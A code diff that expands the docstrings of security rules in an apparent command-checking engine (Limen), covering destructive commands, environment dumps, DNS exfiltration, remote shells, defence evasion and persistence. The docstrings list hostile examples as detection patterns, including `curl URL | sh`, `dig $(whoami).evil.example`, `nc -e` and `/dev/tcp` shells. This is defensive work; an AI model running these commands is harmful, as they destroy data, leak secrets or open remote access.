@@ -865,7 +865,13 @@ _COMMAND_CHECKS = (
 
 @rule(ReasonCode.DESTRUCTIVE_COMMAND, needs=("commands", "write_paths"))
 def destructive_command(action: Action, ctx: Context) -> Iterator[Finding]:
-    """Irreversible destruction of data, history, devices or the machine, and download-and-execute."""
+    """Irreversible destruction: recursive deletes of the home, root, workspace or a system folder
+    (through any spelling, glob, `find -delete`, interpreter code or a container mount), wiping or
+    overwriting disks, history rewrites and forced pushes to protected branches, infrastructure and
+    database destroyers (`terraform destroy`, `kubectl delete ns`, SQL `DROP`/`TRUNCATE`/`DELETE` without
+    `WHERE`), killing every process, fork bombs, and downloaded code run (`curl URL | sh`; an official
+    installer from its own host asks instead). Quiet: deleting build output, caches and files inside the
+    workspace."""
     worst: Finding | None = None
     for command in action.commands:
         for check in _COMMAND_CHECKS:
@@ -935,7 +941,9 @@ def _filtered_for_harmless(action: Action, ctx: Context) -> bool:
 
 @rule(ReasonCode.ENVIRONMENT_DUMP_COMMAND, needs="commands")
 def environment_dump(action: Action, ctx: Context) -> Iterator[Finding]:
-    """Printing the whole environment; BLOCK when the line also sends it out."""
+    """Printing the whole environment (`env`, `printenv`, `export -p`, `set`, `/proc/*/environ`, an
+    interpreter's `os.environ`): AUTH, BLOCK when the same line sends it out. Quiet: reading one named
+    variable (`printenv HOME`) and a dump narrowed to a harmless name (`env | grep DISPLAY`)."""
     sends = any(c.name in _SENDERS for c in action.commands)
     for command in action.commands:
         what = _env_dump(command)
@@ -1023,7 +1031,8 @@ def _stdin_sources(command: Command) -> set[str]:
 
 @rule(ReasonCode.BULK_OPERATION, needs="commands")
 def bulk_operation(action: Action, ctx: Context) -> Iterator[Finding]:
-    """Deleting many things at once, or an unknown list of them."""
+    """Deleting many things at once (at or above the mode's operand threshold) or an unknown list of them
+    (`xargs rm`, `rm $(cat list)`): AUTH. Quiet: a few named files."""
     for command in action.commands:
         if command.name in _DELETERS:
             count = len(_operands(command.argv))
@@ -1098,7 +1107,10 @@ _INFO_NOTES = (
 
 @rule(ReasonCode.OPAQUE_COMMAND, needs="commands")
 def opaque_command(action: Action, ctx: Context) -> Iterator[Finding]:
-    """A part of the line whose effect cannot be known statically."""
+    """A part of the line whose effect cannot be known statically: code built at run time, `eval` of a
+    variable, an interpreter program that does not parse, a script Limen cannot read, a line past a limit:
+    AUTH, never PASS. Quiet: set-up lines of known tools (`eval "$(pyenv init -)"`) and programs it
+    parsed."""
     dynamic = next(  # an alias may never run; a name in an ssh remote line runs on the other machine
         (c for c in action.commands if c.dynamic_name and "alias" not in c.via and "ssh" not in c.via), None
     )
@@ -1132,7 +1144,8 @@ def _suspicious_label(host: str) -> bool:
 
 @rule(ReasonCode.DNS_EXFILTRATION, needs="commands")  # a run-time host name makes no destination
 def dns_exfiltration(action: Action, ctx: Context) -> Iterator[Finding]:
-    """Data leaving through DNS: a query name built from a substitution or carrying an encoded label."""
+    """Data leaving through DNS: a lookup whose query name is built from a substitution or carries a long
+    encoded label (`dig $(whoami).evil.example`): BLOCK. Quiet: lookups of plain names."""
     for dest in action.destinations:
         if "substituted_label" in dest.flags:
             yield _finding(
@@ -1279,7 +1292,10 @@ def _may_reach_a_shell(action: Action) -> bool:
 
 @rule(ReasonCode.REMOTE_SHELL, needs="commands")
 def remote_shell(action: Action, ctx: Context) -> Iterator[Finding]:
-    """A shell handed to (or listening on) the network: reverse and bind shells and their upgrades."""
+    """A shell handed to the network or waiting on it: `/dev/tcp` wired to a shell, `nc -e`, `socat
+    exec:`, a shell piped through `nc`/`openssl`, interpreter code joining a socket to a shell: BLOCK;
+    listeners, raw clients and terminal upgrades (`pty.spawn`, `stty raw -echo`): AUTH. Quiet: `ssh host
+    cmd`, servers on loopback for development."""
     if not _may_reach_a_shell(action):
         return
     why = _remote_shell_block(action)
@@ -1333,7 +1349,9 @@ def _erased(command: Command, action: Action, ctx: Context) -> list[str]:
 
 @rule(ReasonCode.DEFENCE_EVASION)
 def defence_evasion(action: Action, ctx: Context) -> Iterator[Finding]:
-    """Hiding what was done: history wiped, timestamps forged, clock changed, logs or names disguised."""
+    """Hiding what was done: shell history erased or disabled, timestamps back-dated, the clock changed,
+    logs rewritten, terminal escapes written into files, invisible characters in names: AUTH. Quiet:
+    `touch` of a file to now, reading logs, `history | tail`."""
     if any(n.startswith("assign:HIST") for n in action.notes):
         yield _finding(ReasonCode.DEFENCE_EVASION, Verdict.AUTH, 65, "shell history disabled")
         return
@@ -1515,7 +1533,9 @@ def _persistence(command: Command) -> str:
 
 @rule(ReasonCode.PERSISTENCE_WRITE, needs="commands")
 def persistence_command(action: Action, ctx: Context) -> Iterator[Finding]:
-    """Commands that make something run later without the user asking (cron, services, accounts, PATH)."""
+    """Commands that make something run later without the user asking: cron tables, services and timers,
+    user accounts and sudoers, login shells, `PATH` hijacks, launch agents: AUTH (BLOCK in strict). Quiet:
+    listing them (`crontab -l`, `systemctl status`)."""
     if not action.commands:
         return
     home_bins = (f"{ctx.home}/.local/bin/", f"{ctx.home}/bin/") if ctx.home else ()
